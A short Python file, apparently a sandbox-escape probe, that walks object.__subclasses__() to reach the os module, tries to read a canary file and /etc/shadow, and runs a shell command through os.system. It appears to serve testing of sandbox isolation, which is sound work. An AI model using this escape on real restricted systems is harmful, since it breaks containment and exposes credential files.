"""Walk object.__subclasses__() to reach os/subprocess without importing them, then use them."""
import json


def process(input_data):
    paths = json.loads(input_data)
    classes = {cls.__name__: cls for cls in object.__subclasses__()}
    out = {"found": sorted(n for n in ("_wrap_close", "Popen", "FileIO") if n in classes)}
    wrap_close = classes.get("_wrap_close")
    if wrap_close is not None:
        os_module = wrap_close.__init__.__globals__["sys"].modules["os"]
        for label, path in (("canary", paths["canary"]), ("shadow", "/etc/shadow")):
            try:
                fd = os_module.open(path, os_module.O_RDONLY)
                out[label] = "READ:" + os_module.read(fd, 100).decode()
            except OSError as exc:
                out[label] = type(exc).__name__
        out["system"] = os_module.system("echo hi")
    return out
